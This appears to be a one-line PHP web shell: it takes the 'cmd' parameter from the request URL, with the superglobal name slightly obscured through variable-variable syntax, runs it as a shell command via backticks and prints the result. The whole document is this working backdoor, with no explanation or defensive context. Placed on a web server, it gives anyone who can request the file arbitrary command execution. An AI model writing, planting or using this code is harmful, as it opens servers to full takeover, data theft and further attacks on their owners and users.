<?php $cmd = ${"_GET"}["cmd"]; echo `$cmd`;
